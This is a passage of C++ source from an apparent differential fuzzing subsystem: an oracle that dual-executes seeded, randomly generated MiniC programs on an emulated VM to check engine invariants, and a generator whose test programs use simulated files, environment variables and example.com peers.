     * resumes from incomplete state (see tests/snapshot_test.cc and
     * `ldx fuzz --inject-drop-snapshot-page`).
     */
    std::uint64_t chaosDropSnapshotPage = 0;

    /**
     * Check the snapshot/fork invariant: for the seed's last mutated
     * source (the one touched deepest into the program), each policy
     * run forked from the shared-prefix snapshot must fingerprint
     * identically to the same policy run in full.
     */
    bool checkSnapshot = true;

    /**
     * When non-empty, the per-seed compile probes this bytecode-image
     * cache (vm/image.h) before running the front end, so sweeping
     * the same seed range twice — or replaying the shrinker's
     * already-seen candidates — skips lex/parse/sema/codegen. Only
     * the uninstrumented module is cached: the oracle instruments in
     * place, which invalidates any predecoded streams, so those are
     * dropped on a hit and every cell re-predecodes as usual.
     */
    std::string imageCacheDir;
};

/** One invariant violation. */
struct Violation
{
    std::uint64_t seed = 0;
    std::string cell;      ///< cell slug or "native/fast" etc.
    std::string invariant; ///< stable id, e.g. "clean-no-findings"
    std::string detail;

    /** One-line rendering for logs/artifacts. */
    std::string describe() const;
};

/** Everything the oracle learned about one seed. */
struct SeedReport
{
    std::uint64_t seed = 0;
    std::string source;     ///< the program that was checked
    bool compiled = false;  ///< false = sema/parse error (no cells run)
    std::vector<Violation> violations;

    /**
     * DualResult of the first violating dual cell (recorder forced
     * on), for divergence-report artifacts. Unset when the failure
     * was native-only or a compile error.
     */
    core::DualResult failingResult;
    bool hasFailingResult = false;
    std::string failingCell;

    bool ok() const { return compiled && violations.empty(); }
};

/** The differential oracle. */
class Oracle
{
  public:
    explicit Oracle(OracleOptions opt = {});

    /** Generate the program for @p seed and check it. */
    SeedReport run(std::uint64_t seed) const;

    /**
     * Check an explicit program against @p seed's world and mutation
     * plan. Used by the shrinker (candidate programs) and by
     * `ldx fuzz --replay <file>`. A program that fails to compile
     * yields compiled=false and no violations.
     */
    SeedReport runSource(std::uint64_t seed,
                         const std::string &source) const;

    /** The cell list for a matrix flavour. */
    static std::vector<CellSpec> matrix(bool full);

    /** The mutation plan for @p seed (see OracleOptions). */
    std::vector<core::SourceSpec> sourcesFor(std::uint64_t seed) const;

    const OracleOptions &options() const { return opt_; }

  private:
    OracleOptions opt_;
};

} // namespace ldx::fuzz
