#include "fuzz/oracle.h"

#include <algorithm>
#include <sstream>

#include "instrument/instrument.h"
#include "lang/compiler.h"
#include "ldx/snapshot.h"
#include "os/kernel.h"
#include "support/diag.h"
#include "vm/image.h"

namespace ldx::fuzz {

std::string
CellSpec::name() const
{
    std::string s = threaded ? "threaded" : "lockstep";
    s += predecode ? "/fast" : "/slow";
    s += recorder ? "/rec" : "/norec";
    s += mutate ? "/mut" : "/clean";
    return s;
}

std::string
Violation::describe() const
{
    return "seed " + std::to_string(seed) + " [" + cell + "] " +
           invariant + ": " + detail;
}

std::vector<CellSpec>
Oracle::matrix(bool full)
{
    std::vector<CellSpec> cells;
    if (full) {
        for (int t = 0; t < 2; ++t)
            for (int p = 0; p < 2; ++p)
                for (int r = 0; r < 2; ++r)
                    for (int m = 0; m < 2; ++m)
                        cells.push_back({t == 1, p == 0, r == 0,
                                         m == 1});
        return cells;
    }
    // Quick diagonal: both drivers x both mutation settings, fast
    // path, recorder on — the cheapest set that still crosses the
    // driver axis.
    for (int t = 0; t < 2; ++t)
        for (int m = 0; m < 2; ++m)
            cells.push_back({t == 1, true, true, m == 1});
    return cells;
}

Oracle::Oracle(OracleOptions opt)
    : opt_(opt)
{}

std::vector<core::SourceSpec>
Oracle::sourcesFor(std::uint64_t seed) const
{
    std::vector<core::SourceSpec> sources;
    if (opt_.mutationSources >= 1)
        sources.push_back(
            core::SourceSpec::file("/input.txt", seed % 16));
    if (opt_.mutationSources >= 2)
        sources.push_back(core::SourceSpec::peer("feed.example.com"));
    if (opt_.mutationSources >= 3)
        sources.push_back(core::SourceSpec::env("FUZZ"));
    return sources;
}

namespace {

/**
 * The cross-cell identity fingerprint: everything the protocol
 * promises to keep independent of driver, decode path, and recorder.
 * Timing (wall seconds, poll/backoff counters) is deliberately
 * absent.
 *
 * For multi-threaded guests (@p threads) the alignment counts are
 * also dropped: lock-order sharing is best effort (§7) — barrier and
 * copy waits perturb each side's green-thread interleaving
 * differently, so a contended mutex may or may not record an order
 * divergence depending on the driver and, under the threaded driver,
 * the OS schedule. The protocol's promise there is weaker and
 * exactly what remains: same verdict, same findings, same exits.
 */
std::string
fingerprint(const core::DualResult &res, bool threads)
{
    std::ostringstream out;
    out << "causality=" << (res.causality() ? 1 : 0)
        << " deadlocked=" << (res.deadlocked ? 1 : 0);
    if (!threads) {
        out << " aligned=" << res.alignedSyscalls
            << " diffs=" << res.syscallDiffs
            << " slaveSys=" << res.totalSlaveSyscalls
            << " barriers=" << res.barrierPairings;
    }
    out << " mexit=" << res.masterExit << " sexit=" << res.slaveExit
        << " mtrap=" << (res.masterTrapped ? 1 : 0)
        << " strap=" << (res.slaveTrapped ? 1 : 0);
    std::vector<std::string> finds;
    finds.reserve(res.findings.size());
    for (const core::Finding &f : res.findings)
        finds.push_back(f.describe());
    std::sort(finds.begin(), finds.end());
    for (const std::string &f : finds)
        out << "\n  finding: " << f;
    return out.str();
}

} // namespace

SeedReport
Oracle::run(std::uint64_t seed) const
{
    ProgramGenerator gen(seed, opt_.gen);
    return runSource(seed, gen.generate());
}

SeedReport
Oracle::runSource(std::uint64_t seed, const std::string &source) const
{
    SeedReport rep;
    rep.seed = seed;
    rep.source = source;

    std::unique_ptr<ir::Module> module;
    try {
        std::uint64_t key = 0;
        if (!opt_.imageCacheDir.empty()) {
            key = vm::imageKey(source, false);
            if (auto img = vm::probeImageCache(opt_.imageCacheDir, key);
                img && !img->instrumented) {
                // The instrumentation pass below rewrites the module,
                // so the image's predecoded streams cannot be reused.
                img->predecoded.reset();
                module = std::move(img->module);
            }
        }
        if (!module) {
            module = lang::compileSource(source);
            if (!opt_.imageCacheDir.empty())
                vm::storeImageCache(opt_.imageCacheDir, key, *module,
                                    false);
        }
    } catch (const FatalError &) {
        return rep; // compiled stays false; shrinker rejects
    }
    rep.compiled = true;

    // Multi-threaded guests get the weaker §7 contract (see
    // fingerprint()); detection by source is exact because the
    // generator only ever emits "spawn(" for thread units.
    const bool threads = source.find("spawn(") != std::string::npos;

    auto fail = [&](const std::string &cell,
                    const std::string &invariant,
                    const std::string &detail) {
        rep.violations.push_back({seed, cell, invariant, detail});
    };

    try {

    instrument::CounterInstrumenter pass(*module);
    pass.run();
    std::int64_t fcntMain = pass.fcnt().at(module->mainFunction());

    os::WorldSpec world = ProgramGenerator::worldFor(seed);

    // Native instrumented runs, one per decode path: finish + the
    // final-counter invariant, and identical exit codes across paths.
    std::int64_t nativeExit[2] = {0, 0};
    for (int p = 0; p < 2; ++p) {
        const char *cell = p == 0 ? "native/fast" : "native/slow";
        vm::MachineConfig mc;
        mc.predecode = p == 0;
        mc.maxInstructions = opt_.maxInstructions;
        mc.chaosSkipCntAddPeriod = opt_.chaosSkipCntAddPeriod;
        os::Kernel kernel(world);
        vm::Machine machine(*module, kernel, mc);
        vm::StepStatus st = machine.run();
        if (st != vm::StepStatus::Finished) {
            fail(cell, "native-finishes",
                 machine.trap() ? machine.trap()->message
                                : "did not finish");
            continue;
        }
        nativeExit[p] = machine.exitCode();
        std::int64_t cnt = machine.context(0).cnt;
        if (cnt != fcntMain)
            fail(cell, "final-counter",
                 "final cnt " + std::to_string(cnt) +
                     " != FCNT(main) " + std::to_string(fcntMain));
    }
    if (nativeExit[0] != nativeExit[1])
        fail("native", "decode-path-exit",
             "fast exit " + std::to_string(nativeExit[0]) +
                 " != slow exit " + std::to_string(nativeExit[1]));

    // Dual cells. Fingerprints are compared within each mutation
    // group against the group's first cell.
    std::vector<core::SourceSpec> sources = sourcesFor(seed);
    std::string groupPrint[2];
    std::string groupCell[2];
    bool groupSeen[2] = {false, false};

    auto runCell = [&](const CellSpec &cell) {
        core::EngineConfig cfg;
        cfg.threaded = cell.threaded;
        cfg.vmConfig.predecode = cell.predecode;
        cfg.vmConfig.maxInstructions = opt_.maxInstructions;
        cfg.vmConfig.chaosSkipCntAddPeriod =
            opt_.chaosSkipCntAddPeriod;
        cfg.flightRecorder = cell.recorder;
        cfg.wallClockCap = opt_.cellWallCap;
        if (cell.mutate)
            cfg.sources = sources;
        core::DualEngine engine(*module, world, cfg);
        return engine.run();
    };

    auto checkCell = [&](const CellSpec &cell,
                         const core::DualResult &res) {
        std::string name = cell.name();
        bool bad = false;
        if (res.deadlocked) {
            fail(name, "terminates", "dual execution deadlocked");
            bad = true;
        }
        if (res.masterTrapped || res.slaveTrapped) {
            fail(name, "trap-free",
                 res.masterTrapped ? "master trapped: " +
                                         res.masterTrapMessage
                                   : "slave trapped: " +
                                         res.slaveTrapMessage);
            bad = true;
        }
        if (!cell.mutate) {
            // Zero diffs on clean runs — except that a contended
            // mutex may record a lock-order divergence (§7 sharing is
            // best effort); every clean-run diff must be one.
            std::uint64_t lock_div =
                res.metrics.counterOr("lock.order_diverged");
            if (res.syscallDiffs != (threads ? lock_div : 0)) {
                fail(name, "clean-aligns",
                     std::to_string(res.syscallDiffs) +
                         " syscall diffs on a clean run (" +
                         std::to_string(lock_div) +
                         " lock-order divergences)");
                bad = true;
            }
            if (res.causality()) {
                fail(name, "clean-no-findings",
                     "false positive: " +
                         res.findings.front().describe());
                bad = true;
            }
        }
        int g = cell.mutate ? 1 : 0;
        std::string print = fingerprint(res, threads);
        if (!groupSeen[g]) {
            groupSeen[g] = true;
            groupPrint[g] = print;
            groupCell[g] = name;
        } else if (print != groupPrint[g]) {
            fail(name, "cross-cell-identity",
                 "fingerprint differs from " + groupCell[g] +
                     "\n--- " + groupCell[g] + "\n" + groupPrint[g] +
                     "\n--- " + name + "\n" + print);
            bad = true;
        }
        if (bad && !rep.hasFailingResult && cell.recorder) {
            rep.failingResult = res;
            rep.hasFailingResult = true;
            rep.failingCell = name;
        }
    };

    for (const CellSpec &cell : matrix(opt_.fullMatrix))
        checkCell(cell, runCell(cell));

    if (opt_.checkSnapshot && !sources.empty()) {
        // Snapshot/fork equality: every policy resumed from the
        // shared-prefix snapshot must fingerprint identically to the
        // same policy run in full (the full run is the oracle;
        // docs/CAMPAIGN.md "Snapshot/fork execution"). The *last*
        // mutated source is the trigger — generated programs touch
        // /input.txt first and the env var last, so with
        // mutationSources = 3 the shared prefix spans most of the
        // program and actually has state worth capturing.
        // chaosDropSnapshotPage corrupts the fork's slave restore, so
        // with it armed this is the invariant that is *expected* to
        // fire.
        core::EngineConfig base;
        base.vmConfig.predecode = true;
        base.vmConfig.maxInstructions = opt_.maxInstructions;
        base.vmConfig.chaosSkipCntAddPeriod =
            opt_.chaosSkipCntAddPeriod;
        base.wallClockCap = opt_.cellWallCap;
        base.sources = {sources.back()};
        const std::vector<core::MutationStrategy> pols = {
            core::MutationStrategy::OffByOne,
            core::MutationStrategy::Zero,
            core::MutationStrategy::BitFlip,
        };
        core::SnapshotGroupStats gs;
        std::vector<core::DualResult> forked = core::runSnapshotGroup(
            *module, world, base, pols, gs,
            opt_.chaosDropSnapshotPage);
        for (std::size_t i = 0; i < pols.size(); ++i) {
            core::EngineConfig cfg = base;
            cfg.strategy = pols[i];
            core::DualEngine full_eng(*module, world, cfg);
            core::DualResult full = full_eng.run();
            std::string want = fingerprint(full, threads);
            std::string got = fingerprint(forked[i], threads);
            if (got == want)
                continue;
            std::string name =
                std::string("snapshot/") +
                core::mutationStrategyName(pols[i]);
            fail(name, "snapshot-equality",
                 "forked run differs from full run\n--- full\n" +
                     want + "\n--- forked\n" + got);
            if (!rep.hasFailingResult) {
                rep.failingResult = forked[i];
                rep.hasFailingResult = true;
                rep.failingCell = name;
            }
        }
    }

    if (opt_.checkDeterminism) {
        // Same cell twice: the fingerprint must reproduce exactly.
        CellSpec cell{true, true, true, !sources.empty()};
        std::string a = fingerprint(runCell(cell), threads);
        std::string b = fingerprint(runCell(cell), threads);
        if (a != b)
            fail(cell.name(), "run-determinism",
                 "two identical runs disagree\n--- first\n" + a +
                     "\n--- second\n" + b);
    }

    } catch (const FatalError &) {
        // A shrink candidate can drop every syscall, in which case
        // the instrumenter inserts nothing and DualEngine rejects
        // the module. Treat it like a compile failure: the candidate
        // is invalid, not a new bug.
        rep.compiled = false;
        rep.violations.clear();
    }

    return rep;
}

} // namespace ldx::fuzz
