/**
 * @file
 * fuzz::ProgramGenerator — seeded random MiniC programs covering the
 * full feature set of the language (pointers, arrays, function
 * pointers, spawn/lock threads, file and socket syscalls, nested
 * mutual recursion) while guaranteeing termination and trap-freedom.
 *
 * The generator is the seed source of the differential fuzzing
 * subsystem (docs/FUZZING.md): fuzz::Oracle dual-executes every
 * generated program across the engine's config matrix and asserts the
 * paper's invariants, and fuzz::Shrinker delta-debugs the generator's
 * emission decisions when a seed fails.
 *
 * To make shrinking possible the generator does not emit a flat
 * string: it builds a GenProgram — a tree of GenStmt nodes, one per
 * emission decision — which renders to MiniC source. Every node has a
 * stable id, and rendering accepts a set of removed/unwrapped ids, so
 * the shrinker can delete or flatten decisions and recompile. A
 * candidate that drops a load-bearing node (say, a declaration whose
 * uses survive) simply fails to compile and is rejected; no
 * def-use bookkeeping is needed.
 *
 * Safety rules baked into the grammar (the termination/trap-freedom
 * guarantee):
 *  - every loop bound is a small constant or `(input & 7) + 1`;
 *  - recursion (rec1 <-> rec2) strictly decreases a non-negative
 *    argument; helper calls only target strictly lower helper ids;
 *  - every array/pointer index is masked with `& (size-1)`, which is
 *    non-negative even for negative operands;
 *  - divisors and shift amounts are nonzero constants;
 *  - lock()/unlock() are balanced within one non-removable line
 *    group, with a single lock per region (no lock-order deadlock);
 *  - spawn() and join() are paired inside one unit; worker functions
 *    are commutative accumulators under a lock and perform no
 *    nondeterminism syscalls, so results are schedule-independent;
 *  - heap blocks are malloc'd, used with masked indices, and freed in
 *    the same unit.
 *
 * Determinism: the same (seed, options) pair yields a byte-identical
 * program — the generator draws only from the seeded SplitMix64 Prng
 * and never consults global state (tests/fuzz_test.cc pins this).
 */
#pragma once

#include <cstdint>
#include <set>
#include <string>
#include <vector>

#include "os/world.h"
#include "support/prng.h"

namespace ldx::fuzz {

/**
 * Per-feature emission weights and structural bounds. A weight of 0
 * disables the feature entirely; relative magnitudes set how often a
 * statement slot picks it.
 */
struct GenOptions
{
    // Structural bounds.
    int maxHelpers = 3;       ///< 1..maxHelpers helper functions
    int maxBlockDepth = 2;    ///< nesting depth of if/loop bodies
    int maxStmtsPerBlock = 4; ///< 1..max statements per block
    int mainFuel = 3;         ///< block budget in main
    int maxThreadUnits = 2;   ///< spawn/join units per program

    // Feature weights.
    int wAssign = 5;
    int wNondet = 3;   ///< time/random/getpid/rdtsc
    int wIf = 3;
    int wLoop = 3;
    int wHelperCall = 2;
    int wRecursion = 2;
    int wArray = 3;
    int wPointer = 2;
    int wFnPtr = 2;
    int wHeap = 2;
    int wFileRead = 2;
    int wFileWrite = 1;
    int wSocketOut = 1;
    int wSocketIn = 1;
    int wGetEnv = 1;
    int wThreads = 2; ///< spawn/join units (main only)
};

/**
 * One emission decision: either a single source line (tail empty) or
 * a block (head opens it, body/elseBody nest, tail closes it).
 */
struct GenStmt
{
    int id = -1;            ///< DFS index; assigned by finalize()
    bool removable = true;  ///< shrinker may delete this node
    std::string head;       ///< the line, or a block opener ("if.. {")
    std::string tail;       ///< "" for plain lines; "}" etc. for blocks
    std::vector<GenStmt> body;
    std::vector<GenStmt> elseBody; ///< rendered after "} else {"
    bool hasElse = false;

    bool isBlock() const { return !tail.empty(); }
};

/** One function: an opener line, a statement tree, a closing brace. */
struct GenFunction
{
    int id = -1;
    bool removable = false; ///< whole-function removal (helpers etc.)
    std::string open;       ///< "int helper0(int p) {"
    std::vector<GenStmt> body;
};

/** A generated program, rendered on demand. */
struct GenProgram
{
    std::vector<std::string> globals; ///< fixed declaration lines
    std::vector<GenFunction> functions;
    bool usesThreads = false;
    int numNodes = 0; ///< total ids assigned (functions + statements)

    /** Full render. */
    std::string render() const;

    /**
     * Render with every node in @p removed dropped (subtree and all)
     * and every block node in @p unwrapped replaced by its children.
     * Candidates that drop a declaration whose uses survive simply
     * fail to compile downstream.
     */
    std::string render(const std::set<int> &removed,
                       const std::set<int> &unwrapped) const;

    /**
     * Ids of removable nodes still alive under (@p removed,
     * @p unwrapped), in DFS order. Children of a removed node are not
     * reported (they are already gone).
     */
    std::vector<int> aliveRemovable(const std::set<int> &removed,
                                    const std::set<int> &unwrapped) const;

    /** Ids of alive block nodes eligible for unwrapping. */
    std::vector<int> aliveBlocks(const std::set<int> &removed,
                                 const std::set<int> &unwrapped) const;
};

/** Seeded random MiniC program generator (v2). */
class ProgramGenerator
{
  public:
    explicit ProgramGenerator(std::uint64_t seed, GenOptions opt = {});

    /** Generate the program tree for this seed. */
    GenProgram generateProgram();

    /** Convenience: generateProgram().render(). */
    std::string generate();

    /**
     * The world every generated program runs against: /input.txt (48
     * seed-derived bytes, the default mutation source), /data.bin, a
     * FUZZ env var, a sink peer, and a feed peer with scripted
     * responses. Derivation is unchanged from the original
     * property-test generator so historical seeds keep their inputs.
     */
    static os::WorldSpec worldFor(std::uint64_t seed);

  private:
    // Expression / condition grammar.
    std::string expr(int depth = 0);
    std::string atom();
    std::string cond();

    // Statement emitters (see file comment for the safety rules).
    GenStmt line(std::string text, bool removable = true);
    GenStmt unit(std::vector<GenStmt> body);
    GenStmt stAssign();
    GenStmt stNondet();
    GenStmt stArray();
    GenStmt stPointer();
    GenStmt stHeap();
    GenStmt stFnPtr();
    GenStmt stHelperCall();
    GenStmt stRecursion();
    GenStmt stFileRead();
    GenStmt stFileWrite();
    GenStmt stSocketOut();
    GenStmt stSocketIn();
    GenStmt stGetEnv();
    GenStmt stIf(int depth, int fuel);
    GenStmt stLoop(int depth, int fuel);
    GenStmt stThreadUnit();

    std::vector<GenStmt> block(int depth, int fuel);
    GenStmt randomStmt(int depth, int fuel);

    GenFunction makeWorker(int w);
    GenFunction makeRec(int which);
    GenFunction makeHelper(int h);
    GenFunction makeMain();

    Prng prng_;
    GenOptions opt_;
    int var_ = 0;            ///< unique local-variable suffix
    int callableHelpers_ = 0;///< helpers callable from the cursor
    int numHelpers_ = 0;
    int numWorkers_ = 0;
    int threadUnits_ = 0;    ///< spawn/join units emitted so far
    bool inMain_ = false;
    bool inLoop_ = false;
    bool usesThreads_ = false;
};

} // namespace ldx::fuzz
