#include "fuzz/generator.h"

namespace ldx::fuzz {

// ---------------------------------------------------------------------
// Rendering.
// ---------------------------------------------------------------------

namespace {

void
renderStmt(const GenStmt &s, const std::string &indent,
           const std::set<int> &removed, const std::set<int> &unwrapped,
           std::string &out)
{
    if (removed.count(s.id))
        return;
    if (!s.isBlock()) {
        out += indent + s.head + "\n";
        return;
    }
    if (unwrapped.count(s.id)) {
        // Flatten: children at the parent's indentation, no braces.
        for (const GenStmt &c : s.body)
            renderStmt(c, indent, removed, unwrapped, out);
        for (const GenStmt &c : s.elseBody)
            renderStmt(c, indent, removed, unwrapped, out);
        return;
    }
    out += indent + s.head + "\n";
    for (const GenStmt &c : s.body)
        renderStmt(c, indent + "    ", removed, unwrapped, out);
    if (s.hasElse) {
        out += indent + "} else {\n";
        for (const GenStmt &c : s.elseBody)
            renderStmt(c, indent + "    ", removed, unwrapped, out);
    }
    out += indent + s.tail + "\n";
}

void
walkAlive(const GenStmt &s, const std::set<int> &removed,
          bool removableOnly, bool blocksOnly, std::vector<int> &out)
{
    if (removed.count(s.id))
        return;
    bool report = blocksOnly ? (s.isBlock() && s.removable)
                             : (s.removable && !removableOnly) ||
                                   (removableOnly && s.removable);
    if (blocksOnly) {
        if (s.isBlock() && s.removable)
            out.push_back(s.id);
    } else if (report) {
        out.push_back(s.id);
    }
    for (const GenStmt &c : s.body)
        walkAlive(c, removed, removableOnly, blocksOnly, out);
    for (const GenStmt &c : s.elseBody)
        walkAlive(c, removed, removableOnly, blocksOnly, out);
}

int
assignIds(GenStmt &s, int next)
{
    s.id = next++;
    for (GenStmt &c : s.body)
        next = assignIds(c, next);
    for (GenStmt &c : s.elseBody)
        next = assignIds(c, next);
    return next;
}

} // namespace

std::string
GenProgram::render() const
{
    return render({}, {});
}

std::string
GenProgram::render(const std::set<int> &removed,
                   const std::set<int> &unwrapped) const
{
    std::string out;
    for (const std::string &g : globals)
        out += g + "\n";
    out += "\n";
    for (const GenFunction &f : functions) {
        if (removed.count(f.id))
            continue;
        out += f.open + "\n";
        for (const GenStmt &s : f.body)
            renderStmt(s, "    ", removed, unwrapped, out);
        out += "}\n\n";
    }
    return out;
}

std::vector<int>
GenProgram::aliveRemovable(const std::set<int> &removed,
                           const std::set<int> &) const
{
    std::vector<int> out;
    for (const GenFunction &f : functions) {
        if (removed.count(f.id))
            continue;
        if (f.removable)
            out.push_back(f.id);
        for (const GenStmt &s : f.body)
            walkAlive(s, removed, /*removableOnly=*/true,
                      /*blocksOnly=*/false, out);
    }
    return out;
}

std::vector<int>
GenProgram::aliveBlocks(const std::set<int> &removed,
                        const std::set<int> &unwrapped) const
{
    std::vector<int> out;
    for (const GenFunction &f : functions) {
        if (removed.count(f.id))
            continue;
        for (const GenStmt &s : f.body)
            walkAlive(s, removed, /*removableOnly=*/false,
                      /*blocksOnly=*/true, out);
    }
    std::vector<int> fresh;
    for (int id : out) {
        if (!unwrapped.count(id))
            fresh.push_back(id);
    }
    return fresh;
}

// ---------------------------------------------------------------------
// Generation.
// ---------------------------------------------------------------------

ProgramGenerator::ProgramGenerator(std::uint64_t seed, GenOptions opt)
    : prng_(seed), opt_(opt)
{}

os::WorldSpec
ProgramGenerator::worldFor(std::uint64_t seed)
{
    os::WorldSpec w;
    Prng prng(seed * 77 + 5);
    std::string input;
    for (int i = 0; i < 48; ++i)
        input += static_cast<char>(1 + prng.below(120));
    w.files["/input.txt"] = input;
    w.files["/data.bin"] = "0123456789abcdef";
    std::string ev;
    for (int i = 0; i < 8; ++i)
        ev += static_cast<char>('A' + prng.below(26));
    w.env["FUZZ"] = ev;
    w.peers["sink.example.com"] = {};
    os::PeerScript feed;
    for (int r = 0; r < 3; ++r) {
        std::string resp;
        int len = 4 + static_cast<int>(prng.below(8));
        for (int i = 0; i < len; ++i)
            resp += static_cast<char>('a' + prng.below(26));
        feed.responses.push_back(resp);
    }
    w.peers["feed.example.com"] = feed;
    return w;
}

std::string
ProgramGenerator::generate()
{
    return generateProgram().render();
}

GenProgram
ProgramGenerator::generateProgram()
{
    var_ = 0;
    threadUnits_ = 0;
    usesThreads_ = false;

    GenProgram prog;
    prog.globals = {
        "char inputv[64];",
        "int acc;",
        "int arr[16];",
        "char scratch[32];",
        "int shared0;",
        "int shared1;",
    };

    numWorkers_ = opt_.wThreads > 0 && opt_.maxThreadUnits > 0
                      ? 1 + static_cast<int>(prng_.below(2))
                      : 0;
    numHelpers_ =
        1 + static_cast<int>(
                prng_.below(static_cast<std::uint64_t>(
                    opt_.maxHelpers > 0 ? opt_.maxHelpers : 1)));

    for (int w = 0; w < numWorkers_; ++w)
        prog.functions.push_back(makeWorker(w));
    if (opt_.wRecursion > 0) {
        prog.functions.push_back(makeRec(1));
        prog.functions.push_back(makeRec(2));
    }
    for (int h = 0; h < numHelpers_; ++h)
        prog.functions.push_back(makeHelper(h));
    prog.functions.push_back(makeMain());

    prog.usesThreads = usesThreads_;

    int next = 0;
    for (GenFunction &f : prog.functions) {
        f.id = next++;
        for (GenStmt &s : f.body)
            next = assignIds(s, next);
    }
    prog.numNodes = next;
    return prog;
}

// -- expressions ------------------------------------------------------

std::string
ProgramGenerator::atom()
{
    switch (prng_.below(usesThreads_ ? 6 : 5)) {
      case 0:
        return "acc";
      case 1:
        return std::to_string(prng_.below(100));
      case 2:
        return "inputv[" + std::to_string(prng_.below(48)) + "]";
      case 3:
        return "arr[" + std::to_string(prng_.below(16)) + "]";
      case 4:
        return "acc";
      default:
        return prng_.chance(1, 2) ? "shared0" : "shared1";
    }
}

std::string
ProgramGenerator::expr(int depth)
{
    if (depth >= 2 || prng_.chance(2, 5))
        return atom();
    std::string a = expr(depth + 1);
    switch (prng_.below(7)) {
      case 0:
        return "(" + a + " + " + expr(depth + 1) + ")";
      case 1:
        return "(" + a + " ^ " + expr(depth + 1) + ")";
      case 2:
        return "(" + a + " - " + expr(depth + 1) + ")";
      case 3:
        return "(" + a + " * " + std::to_string(1 + prng_.below(5)) +
               ")";
      case 4:
        return "(" + a + " % " + std::to_string(2 + prng_.below(96)) +
               ")";
      case 5:
        return "(" + a + " >> " + std::to_string(1 + prng_.below(4)) +
               ")";
      default:
        return "(" + a + " & " + std::to_string(1 + prng_.below(255)) +
               ")";
    }
}

std::string
ProgramGenerator::cond()
{
    switch (prng_.below(4)) {
      case 0:
        return "((" + expr() + ") & 1) == 0";
      case 1:
        return "(" + expr() + ") % " +
               std::to_string(2 + prng_.below(5)) + " == " +
               std::to_string(prng_.below(2));
      case 2:
        return "inputv[" + std::to_string(prng_.below(48)) + "] > " +
               std::to_string(40 + prng_.below(60));
      default:
        return "(" + expr() + ") < (" + expr() + ")";
    }
}

// -- statement helpers ------------------------------------------------

GenStmt
ProgramGenerator::line(std::string text, bool removable)
{
    GenStmt s;
    s.head = std::move(text);
    s.removable = removable;
    return s;
}

GenStmt
ProgramGenerator::unit(std::vector<GenStmt> body)
{
    GenStmt s;
    s.head = "{";
    s.tail = "}";
    s.body = std::move(body);
    return s;
}

// -- feature emitters -------------------------------------------------

GenStmt
ProgramGenerator::stAssign()
{
    return line("acc = " + expr() + ";");
}

GenStmt
ProgramGenerator::stNondet()
{
    switch (prng_.below(4)) {
      case 0:
        return line("acc = acc + time() % 7;");
      case 1:
        return line("acc = acc ^ (random() % 1000);");
      case 2:
        return line("acc = acc + getpid() % 13;");
      default:
        return line("acc = acc ^ (rdtsc() & 255);");
    }
}

GenStmt
ProgramGenerator::stArray()
{
    switch (prng_.below(3)) {
      case 0:
        return line("arr[(" + expr() + ") & 15] = " + expr() + ";");
      case 1:
        return line("acc = acc + arr[(" + expr() + ") & 15];");
      default:
        return line("inputv[(" + expr() + ") & 63] = (" + expr() +
                    ") & 127;");
    }
}

GenStmt
ProgramGenerator::stPointer()
{
    int v = var_++;
    std::string p = "p" + std::to_string(v);
    if (prng_.chance(1, 3)) {
        return unit({
            line("int *" + p + " = &acc;"),
            line("*" + p + " = *" + p + " ^ " +
                 std::to_string(1 + prng_.below(64)) + ";"),
        });
    }
    if (prng_.chance(1, 2)) {
        return unit({
            line("int *" + p + " = arr + ((" + expr() + ") & 15);"),
            line("*" + p + " = *" + p + " + " +
                 std::to_string(1 + prng_.below(32)) + ";"),
            line("acc = acc + *" + p + ";"),
        });
    }
    return unit({
        line("char *" + p + " = inputv + ((" + expr() + ") & 63);"),
        line("acc = acc + *" + p + ";"),
    });
}

GenStmt
ProgramGenerator::stHeap()
{
    int v = var_++;
    std::string m = "m" + std::to_string(v);
    return unit({
        line("char *" + m + " = malloc(16);"),
        line("memset(" + m + ", (" + expr() + ") & 255, 16);"),
        line(m + "[(" + expr() + ") & 15] = (" + expr() + ") & 127;"),
        line("acc = acc + " + m + "[(" + expr() + ") & 15];"),
        line("free(" + m + ");"),
    });
}

GenStmt
ProgramGenerator::stFnPtr()
{
    if (callableHelpers_ <= 0)
        return stAssign();
    int target = static_cast<int>(
        prng_.below(static_cast<std::uint64_t>(callableHelpers_)));
    int v = var_++;
    std::string f = "f" + std::to_string(v);
    return unit({
        line("fn " + f + " = &helper" + std::to_string(target) + ";"),
        line("acc = acc + " + f + "((" + expr() + ") & 63);"),
    });
}

GenStmt
ProgramGenerator::stHelperCall()
{
    if (callableHelpers_ <= 0)
        return stAssign();
    int target = static_cast<int>(
        prng_.below(static_cast<std::uint64_t>(callableHelpers_)));
    return line("acc = acc + helper" + std::to_string(target) + "((" +
                expr() + ") & 63);");
}

GenStmt
ProgramGenerator::stRecursion()
{
    std::string entry = prng_.chance(1, 2) ? "rec1" : "rec2";
    return line("acc = acc + " + entry + "(inputv[" +
                std::to_string(prng_.below(48)) + "] & 7);");
}

GenStmt
ProgramGenerator::stFileRead()
{
    int v = var_++;
    std::string fd = "fd" + std::to_string(v);
    std::string t = "t" + std::to_string(v);
    std::string r = "r" + std::to_string(v);
    return unit({
        line("int " + fd + " = open(\"/data.bin\", 0);"),
        line("char " + t + "[8];"),
        line("int " + r + " = read(" + fd + ", " + t + ", 7);"),
        line("acc = acc + " + r + " + " + t + "[(" + expr() +
             ") & 7];"),
        line("close(" + fd + ");"),
    });
}

GenStmt
ProgramGenerator::stFileWrite()
{
    int v = var_++;
    std::string fd = "fd" + std::to_string(v);
    std::string path = "/out" + std::to_string(prng_.below(3)) + ".log";
    std::string mode = prng_.chance(1, 3) ? "2" : "1";
    return unit({
        line("int " + fd + " = open(\"" + path + "\", " + mode + ");"),
        line("itoa(acc & 65535, scratch);"),
        line("write(" + fd + ", scratch, strlen(scratch));"),
        line("close(" + fd + ");"),
    });
}

GenStmt
ProgramGenerator::stSocketOut()
{
    int v = var_++;
    std::string s = "s" + std::to_string(v);
    return unit({
        line("int " + s + " = socket();"),
        line("connect(" + s + ", \"sink.example.com\");"),
        line("itoa(acc & 4095, scratch);"),
        line("send(" + s + ", scratch, strlen(scratch));"),
        line("close(" + s + ");"),
    });
}

GenStmt
ProgramGenerator::stSocketIn()
{
    int v = var_++;
    std::string s = "s" + std::to_string(v);
    std::string rb = "rb" + std::to_string(v);
    std::string r = "r" + std::to_string(v);
    return unit({
        line("int " + s + " = socket();"),
        line("connect(" + s + ", \"feed.example.com\");"),
        line("char " + rb + "[16];"),
        line("int " + r + " = recv(" + s + ", " + rb + ", 15);"),
        line("acc = acc + " + r + ";"),
        line("if (" + r + " > 0) { acc = acc + " + rb + "[(" + expr() +
             ") & 15]; }"),
